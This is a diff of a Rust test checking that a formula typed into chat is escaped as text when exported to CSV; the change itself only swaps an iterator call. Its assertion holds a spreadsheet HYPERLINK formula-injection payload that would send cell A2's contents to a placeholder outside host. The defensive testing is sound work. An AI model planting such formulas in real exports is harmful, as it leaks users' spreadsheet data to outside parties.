@@ -497,7 +497,7 @@ async fn a_formula_typed_in_chat_reaches_the_csv_as_text(backend: Backend) {
     let bytes = std::fs::read(&out).unwrap();
     let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
     let row = reader.records().next().unwrap().unwrap();
-    let cell = row.iter().last().unwrap();
+    let cell = row.iter().next_back().unwrap();
     assert_eq!(cell, "'=HYPERLINK(\"http://x.example/?\"&A2,\"Xem\")");
     app.shutdown().await;
 }
